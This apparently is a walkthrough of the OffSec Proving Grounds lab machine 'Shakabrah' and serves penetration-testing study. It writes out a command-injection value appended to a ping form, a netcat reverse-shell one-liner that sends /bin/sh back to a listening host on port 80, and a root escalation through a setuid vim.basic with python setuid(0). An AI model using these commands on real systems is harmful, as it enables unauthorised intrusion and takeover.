OffSec PG - Shakabrah


Machine IP →

Network Scan

Nmap scan → nmap -A -Pn -p- -T4 -o nmap.txt

OS Detection → OS: Linux; CPE: cpe:/o:linux:linux_kernel

PortServiceOther details (if any)
22SSHOpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
80HTTPApache httpd 2.4.29 ((Ubuntu))

Web ScanGoBuster scan → gobuster dir -u -w/home/tanq/installations/SecLists/Discovery/Web-Content/directory-list-lowercase-2.3-medium.txt -x html,php,txt

Directories/files listed →

  • index.php


The webpage is basically a php file that executes ping to a given IP address and rendered the result. This is however, vulnerable to command injection. Therefore, IP addresses or domains can be appended with ; whoami to execute the command and retrieve the result.

This is because user input is directly passed to the backend to execute and retrieve the result. This is the RCE observed. This is used to retrieve the /etc/passwd file which has two users of interest → dylan and root.

The RCE can also be used to take a look inside the /home/ directory and the files inside the user dylan’s home were readable by www-data user RCE, which gives the user flag.

Further, to get a shell, the usual reverse shell one liners are used. None of them worked. Thus followed a convention to look at listening ports using netstat -ntaup. These ports are more likely to not be denied connections “to” since they are allowed ports on the machine for connections “from” other addresses.

The shell payload that worked was rm /tmp/f;mkfifo /tmp/f;cat /tmp/f | /bin/sh -i 2>&1|nc 80 > /tmp/f with the netcat instance listening on port 80. This gave a shell as www-data.

Privilege Escalation

Looking at the setuid binaries in the system, an interesting one is vim.basic because vim allows executing shell commands.

Therefore, a shell can be lanuched by using vim.basic -c ':! bash' command. However, this does not set the privileges. The uid is still that of www-data.

This can be done by using python since it is there on the system, otherwise a C code would have to be compiled and executed. The python command canbe executed as follows →

vim.basic -c ':py3 import os;os.setuid(0); os.system("/bin/bash")'This gives the root shelland thus the root flag.This post is licensed under CC BY 4.0 by the author.